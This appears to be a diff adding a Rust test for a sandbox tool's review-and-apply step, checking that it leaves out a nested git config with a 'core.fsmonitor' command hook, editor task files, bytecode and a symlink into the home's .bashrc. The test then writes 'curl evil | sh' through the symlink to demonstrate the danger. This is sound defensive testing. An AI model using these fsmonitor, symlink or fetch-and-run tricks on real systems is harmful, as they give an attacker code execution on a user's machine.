@@ -299,3 +299,63 @@ fn on_a_terminal_the_answer_after_the_run_applies() {
         );
     }
 }
+
+/// `review apply` leaves out what runs later beyond the top-level git files: a nested
+/// repository's config, a new editor file at depth, bytecode, and a new symlink out of the
+/// project (what the maintainer writes to it later would land in their home). Applied
+/// directly, the symlink reaches the home; `--include-symlinks` applies it on request.
+#[test]
+fn apply_leaves_out_nested_git_editor_files_bytecode_and_outside_symlinks() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let s = fx.outside("git init -q vendor/lib");
+        assert!(s.success(), "{s}");
+        let bashrc = fx.home_path(".bashrc");
+        let script = format!(
+            "git -C vendor/lib config core.fsmonitor 'touch PWNED'; mkdir -p sub/.vscode && echo '{{}}' > sub/.vscode/tasks.json
+             mkdir -p pkg/__pycache__ && echo x > pkg/__pycache__/m.cpython-311.pyc
+             ln -s {b} notes.txt && ln -s README.md readme-link && echo ok > new.txt"
+            , b = q(&bashrc)
+        );
+        let run = fx.inside(&["--review"], &script);
+        assert!(run.success(), "[{r}] the review run:{run}");
+        let apply = fx.keepout(&["review", "apply"]);
+        assert!(apply.success(), "[{r}] apply:{apply}");
+        let p = &fx.project;
+        assert!(
+            p.join("new.txt").exists() && p.join("readme-link").is_symlink(),
+            "[{r}] ordinary changes apply:{apply}"
+        );
+        assert!(
+            read(&p.join("vendor/lib/.git/config")).is_some_and(|c| !c.contains("fsmonitor")),
+            "[{r}] the nested config is left alone:{apply}"
+        );
+        assert!(
+            !p.join("sub/.vscode").exists(),
+            "[{r}] the editor file is left out:{apply}"
+        );
+        assert!(
+            !p.join("pkg/__pycache__/m.cpython-311.pyc").exists(),
+            "[{r}] bytecode is left out:{apply}"
+        );
+        assert!(
+            std::fs::symlink_metadata(p.join("notes.txt")).is_err()
+                && apply.stderr.contains("notes.txt")
+                && apply.stderr.contains("--include-symlinks"),
+            "[{r}] the symlink out of the project is left out and named:{apply}"
+        );
+        // Through the symlink, a later write reaches the home: what the refusal prevents.
+        let run = fx.inside(&["--review"], &format!("ln -s {} notes.txt", q(&bashrc)));
+        assert!(run.success(), "{run}");
+        let apply = fx.keepout(&["review", "apply", "--include-symlinks"]);
+        assert!(
+            apply.success() && p.join("notes.txt").is_symlink(),
+            "[{r}] applied on request:{apply}"
+        );
+        let write = fx.outside("echo 'curl evil | sh' >> notes.txt");
+        assert!(
+            write.success() && read(&fx.home.join(".bashrc")).is_some_and(|c| c.contains("curl evil")),
+            "[{r}] a later write through the applied symlink lands in the home (proves the danger):{write}"
+        );
+    }
+}
